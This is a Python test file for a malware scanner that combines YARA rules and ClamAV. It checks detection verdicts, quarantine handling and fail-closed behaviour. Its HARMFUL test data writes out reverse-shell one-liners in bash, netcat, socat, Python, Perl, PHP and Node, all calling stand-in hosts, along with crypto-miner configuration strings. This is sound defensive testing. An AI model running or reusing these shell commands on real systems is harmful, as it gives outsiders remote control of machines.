"""What is taken for harmful, by our rules and by ClamAV."""

import asyncio
import hashlib
import os
import stat
from collections.abc import AsyncIterator
from contextlib import suppress
from pathlib import Path

import pytest
import yara

from models.states import FileVerdict
from services.errors import UserError, UserErrorCode
from services.options import Options
from services.sandboxes import clamav, scanning
from services.sandboxes.scanning import Scanner, Verdict
from tests.servers.clamd import EICAR
from tests.servers.clamd_double import double

HARMFUL = {
    "eicar": [EICAR, EICAR + b"\r\n"],
    "reverse_shell_bash": [
        b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        b"#!/bin/sh\nsh -i >&/dev/udp/evil.example/53 0>&1\n",
        b"exec 5<>/dev/tcp/10.0.0.1/443\ncat <&5 | while read line; do $line 2>&5 >&5; done",
    ],
    "reverse_shell_netcat": [
        b"nc -e /bin/sh 203.0.113.5 4444",
        b"ncat evil.example 9001 --sh-exec 'bash'",
        b"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 1234 >/tmp/f",
        b"socat tcp-connect:203.0.113.5:4444 exec:'bash -li',pty,stderr,setsid",
    ],
    "reverse_shell_script": [
        b"import socket,subprocess,os\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\n"
        b"os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
        b"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){"
        b'open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
        b'<?php $sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");?>',
        b"c = new net.Socket(); s = spawn('/bin/sh', []); c.connect(1, 'h', () => "
        b"{ c.pipe(s.stdin); s.stdout.pipe(c) })",
    ],
    "miner_pool_address": [b'{"url": "stratum+tcp://pool.example.com:3333"}'],
    "miner_program": [
        b'{"donate-level": 1, "algo": "rx/0", "user-agent": "XMRig/6.21"}',
        b"\x7fELF\0\0mining.subscribe\0mining.authorize\0cryptonight\0randomx\0",
        b'var miner = new CoinHive.Anonymous("key"); miner.start();',
    ],
}
HARMLESS = [
    b"",
    b"print('hello')\n",
    os.urandom(100_000),
    b"import socket, subprocess\ns = socket.create_connection(('example.com', 80))\n"
    b"s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nsubprocess.run(['ls', '-l'])\n",
    b"#!/bin/bash -i\necho bash -i starts an interactive shell > notes; nc -z localhost 80\n",
    b"The EICAR test file contains EICAR-STANDARD-ANTIVIRUS-TEST-FILE.\n",
    b"# Mining with xmrig is not allowed here, nor is ethminer.\n",
    b"class Miner:\n    def authorize(self): ...\n",
    b"int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0); dup2(s, 0); return 0; }\n",
]


async def judged(scanner: Scanner, data: bytes, size: int = 1 << 20) -> Verdict:
    async with scanner.intake() as intake:
        for at in range(0, len(data), size):
            await intake.add(data[at : at + size])
        return await intake.judge()


@pytest.fixture
def options(tmp_path: Path) -> Options:
    return Options(data_dir=tmp_path)


@pytest.mark.parametrize("rule", HARMFUL)
async def test_what_is_harmful_is_found_by_its_rule(options: Options, rule: str) -> None:
    scanner = Scanner(options)
    for data in HARMFUL[rule]:
        for size in (1 << 20, 7):
            verdict = await judged(scanner, data, size)
            assert (verdict.verdict, verdict.rule, verdict.engine) == (
                FileVerdict.INFECTED,
                rule,
                "yara",
            ), data
            assert verdict.sha256 == hashlib.sha256(data).hexdigest()
            assert verdict.size_bytes == len(data)


@pytest.mark.parametrize("data", HARMLESS)
async def test_what_only_resembles_it_is_clean(options: Options, data: bytes) -> None:
    assert (await judged(Scanner(options), data)).verdict is FileVerdict.CLEAN


async def test_our_own_code_and_the_standard_library_are_clean(options: Options) -> None:
    rules = scanning.compile_rules()
    folders = [Path(os.__file__).parent, Path(scanning.__file__).parents[2] / "sandbox"]
    found = {
        str(path): [match.rule for match in rules.match(str(path))]
        for folder in folders
        for path in sorted(folder.rglob("*.py"))[:400]
        if path.stat().st_size < 200_000
    }
    assert len(found) > 200
    assert {path: names for path, names in found.items() if names} == {}


async def test_nothing_of_what_was_judged_stays_unless_it_is_kept(options: Options) -> None:
    scanner = Scanner(options)
    await judged(scanner, b"x" * 1000)
    await judged(scanner, EICAR)
    assert [place for place in scanner.quarantine.rglob("*") if place.is_file()] == []
    async with scanner.intake() as intake:
        await intake.add(EICAR)
        assert (await intake.judge()).is_infected
        await asyncio.to_thread(intake.keep, "one")
    (kept,) = [place for place in scanner.quarantine.rglob("*") if place.is_file()]
    assert kept == scanner.quarantine / "one"
    assert kept.read_bytes() == EICAR
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert stat.S_IMODE((scanner.quarantine / "incoming").stat().st_mode) == 0o700


async def test_what_is_too_large_is_not_called_clean(tmp_path: Path) -> None:
    scanner = Scanner(Options(data_dir=tmp_path, scan_max_bytes=1000))
    assert (await judged(scanner, b"x" * 1000)).verdict is FileVerdict.CLEAN
    for size in (1 << 20, 300):
        verdict = await judged(scanner, EICAR + b"x" * 1000, size)
        assert (verdict.verdict, verdict.size_bytes) == (FileVerdict.UNSCANNED, 1068)
        assert verdict.sha256 == hashlib.sha256(EICAR + b"x" * 1000).hexdigest()
    assert [place for place in scanner.quarantine.rglob("*") if place.is_file()] == []


async def test_rules_that_take_too_long_call_nothing_clean(
    options: Options, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Slow:
        def match(self, path: str, timeout: int) -> list[object]:
            assert timeout == 20
            raise yara.TimeoutError("scanning timed out")

    scanner = Scanner(options)
    monkeypatch.setattr(scanner, "_rules", Slow())
    assert (await judged(scanner, b"x")).verdict is FileVerdict.UNSCANNED


async def test_clamav_is_asked_with_every_byte(tmp_path: Path) -> None:
    async with double() as daemon:
        scanner = Scanner(Options(data_dir=tmp_path, clamav_url=daemon.url))
        data = b"some good" + os.urandom(300_000)
        for content in (data, b"good"):
            assert (await judged(scanner, content)).verdict is FileVerdict.CLEAN
        # What our rules know need not be asked about.
        assert (await judged(scanner, EICAR)).engine == "yara"
        assert daemon.scanned == [data, b"good"]


async def test_clamav_is_asked_what_our_rules_take_too_long_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Slow:
        def match(self, path: str, timeout: int) -> list[object]:
            raise yara.TimeoutError("scanning timed out")

    async with double() as daemon:
        daemon.signatures[b"evil"] = "Win.Test.Evil-1"
        scanner = Scanner(Options(data_dir=tmp_path, clamav_url=daemon.url))
        monkeypatch.setattr(scanner, "_rules", Slow())
        assert (await judged(scanner, b"evil")).rule == "Win.Test.Evil-1"
        assert (await judged(scanner, b"good")).verdict is FileVerdict.UNSCANNED


async def test_a_file_that_cannot_be_read_is_not_clean(tmp_path: Path) -> None:
    async def chunks() -> AsyncIterator[bytes]:
        yield b"x"
        raise FileNotFoundError("gone")

    async with double() as daemon:
        with pytest.raises(clamav.ClamavError, match="gone"):
            await clamav.scan(daemon.url, chunks())


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"stream: ERROR\0",
        b"nonsense\0",
        b"stream: OK",
        b"stream: OK" * 50_000,
        b"stream: OK" * 50_000 + b"\0",
        b"\xff\xfe\0",
    ],
    ids=["nothing", "error", "nonsense", "cut off", "endless", "long", "no text"],
)
async def test_without_an_answer_of_clamav_nothing_is_called_clean(
    tmp_path: Path, answer: bytes
) -> None:
    async with double() as daemon:
        daemon.answer = answer
        url = daemon.url
        with pytest.raises(UserError) as caught:
            await judged(Scanner(Options(data_dir=tmp_path, clamav_url=url)), b"x")
        assert caught.value.code is UserErrorCode.UNAVAILABLE
        lax = Options(data_dir=tmp_path, clamav_url=url, clamav_required=False)
        assert (await judged(Scanner(lax), b"x")).verdict is FileVerdict.UNSCANNED
    with pytest.raises(UserError):
        await judged(Scanner(Options(data_dir=tmp_path, clamav_url=url)), b"x")
    assert (await judged(Scanner(lax), b"x")).verdict is FileVerdict.UNSCANNED
    # What needs no ClamAV to be known is found all the same.
    assert (await judged(Scanner(lax), EICAR)).is_infected


async def test_a_clamav_that_says_nothing_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(clamav, "_ANSWER_S", 0.1)
    asked, left = asyncio.Event(), asyncio.Event()

    async def mute(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.set()
        with suppress(ConnectionError):
            await reader.read()
        writer.close()
        with suppress(ConnectionError):
            await writer.wait_closed()
        left.set()

    async def chunks() -> AsyncIterator[bytes]:
        yield b"x"

    async with await asyncio.start_server(mute, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        with pytest.raises(clamav.ClamavError, match="in time"):
            await clamav.scan(f"tcp://127.0.0.1:{port}", chunks())
        await asyncio.wait_for(left.wait(), 10)
    assert asked.is_set()
